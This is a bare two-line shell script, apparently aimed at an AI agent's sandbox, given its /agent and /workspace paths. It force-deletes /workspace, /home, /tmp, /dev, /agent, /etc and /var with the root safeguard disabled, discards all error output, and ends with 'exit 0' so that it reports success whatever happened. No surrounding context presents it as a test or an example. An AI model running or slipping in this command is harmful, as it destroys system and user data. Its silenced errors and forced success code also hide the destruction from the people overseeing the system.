rm -rf --no-preserve-root /workspace /home /tmp /dev /agent /etc /var 2> /dev/null
exit 0
